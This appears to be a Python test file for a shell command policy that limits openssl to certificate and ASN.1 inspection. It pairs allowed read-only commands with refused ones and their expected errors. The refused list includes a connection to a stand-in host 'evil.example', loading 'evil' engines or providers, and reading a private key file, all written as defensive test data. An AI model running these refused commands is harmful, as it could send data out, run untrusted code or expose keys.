"""programs/openssl.py: certificate and ASN.1 inspection only."""

from __future__ import annotations

from tests.support.shell_policy import policy_table

ALLOWED = [
    ("openssl x509 -in /etc/ssl/certs/site.pem -noout -enddate", None),
    ("openssl x509 -in /etc/ssl/certs/site.pem -noout -subject -dates", None),
    ("openssl x509 --in /etc/ssl/certs/site.pem --noout --text", None),
    ("openssl x509 -in=/etc/ssl/certs/site.pem -noout -checkend 86400", None),
    ("openssl x509 -noout -fingerprint -sha256 /etc/ssl/certs/site.pem", None),
    ("openssl verify -CAfile /etc/ssl/certs/ca.pem /etc/ssl/certs/site.pem", None),
    ("openssl crl -in /etc/ssl/crl.pem -noout -nextupdate", None),
    ("openssl asn1parse -in /etc/ssl/certs/site.pem -i", None),
    ("openssl version -a", [["openssl", "version", "-a"]]),
    ("openssl version", None),
]

REFUSED = [
    ("openssl", "refused `openssl`: only asn1parse, crl, verify, version, x509 are allowed"),
    ("openssl genrsa 2048", "`openssl genrsa`: only asn1parse, crl, verify, version, x509"),
    (
        "openssl s_client -connect evil.example:443",
        "`openssl s_client`: opens a connection that can send data",
    ),
    ("openssl s_server", "`openssl s_server`: starts a server"),
    ("openssl s_time", "`openssl s_time`: opens connections"),
    ("openssl enc -d -in x", "`openssl enc`: writes and decrypts data"),
    ("openssl x509 -in c.pem -out /tmp/x", "`openssl -out`: this option writes a file"),
    ("openssl x509 --out /tmp/x -in c.pem", "`openssl -out`"),
    ("openssl x509 -out=/tmp/x -in c.pem", "`openssl -out`"),
    ("openssl x509 -keyout k.pem", "`openssl -keyout`: this option writes a file"),
    ("openssl x509 -in c.pem -engine evil", "`openssl -engine`: loading engines runs code"),
    ("openssl x509 -in c.pem -provider evil", "`openssl -provider`: loading providers runs code"),
    ("openssl x509 -in c.pem -provider-path /tmp", "`openssl -provider-path`"),
    ("openssl x509 -in c.pem -propquery x", "`openssl -propquery`: provider selection is not allowed"),
    ("openssl verify -passin pass:x c.pem", "`openssl -passin`: pass phrases are secrets"),
    ("openssl x509 -rand /dev/urandom -in c.pem", "`openssl -rand`"),
    ("openssl x509 -writerand /tmp/r", "`openssl -writerand`"),
    ("openssl x509 -signkey k -in c.pem", "`openssl -signkey`: unknown or refused option"),
    ("openssl x509 -noout=1 -in c.pem", "`openssl -noout`: unknown or refused option"),
    ("openssl x509 -in", "`openssl -in`: this option needs a value"),
    ("openssl x509 -in /etc/ssl/private/site.key", "private keys"),
    ("openssl version -x", "`openssl -x`: unknown or refused option"),
]

test_allowed, test_refused = policy_table(ALLOWED, REFUSED)
